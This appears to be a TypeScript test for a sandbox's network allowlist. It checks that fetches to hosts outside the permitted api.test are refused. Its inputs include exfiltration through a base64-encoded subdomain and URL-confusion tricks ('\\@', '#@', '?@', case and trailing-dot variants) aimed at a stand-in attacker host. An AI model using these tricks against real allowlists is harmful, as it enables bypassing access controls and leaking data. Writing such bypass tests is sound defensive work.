/**
 * A name that is not on the tool's list, requested with the tool's data as a prefix, in many
 * spellings.
 *
 * status: success
 * output: ["PermissionDenied", "PermissionDenied", "PermissionDenied", "PermissionDenied", "PermissionDenied", "PermissionDenied"]
 * permissions: {"net": ["api.test:{{port}}"]}
 * never_asked: unlisted.example.com
 * never_asked: evil.inside.example.com
 */
export async function execute(): Promise<string[]> {
  const ends: string[] = [];
  for (const url of [
    "http://c2VjcmV0.unlisted.example.com:{{port}}/",
    "http://api.test.unlisted.example.com:{{port}}/",
    "http://API.TEST.UNLISTED.EXAMPLE.COM.:{{port}}/",
    "http://evil.inside.example.com:{{port}}\\@api.test:{{port}}/",
    "http://evil.inside.example.com:{{port}}#@api.test:{{port}}/",
    "http://evil.inside.example.com:{{port}}?@api.test:{{port}}/",
  ]) {
    ends.push(await fetch(url).then((answer) => `answered ${answer.url}`, (error) => error.name));
  }
  return ends;
}
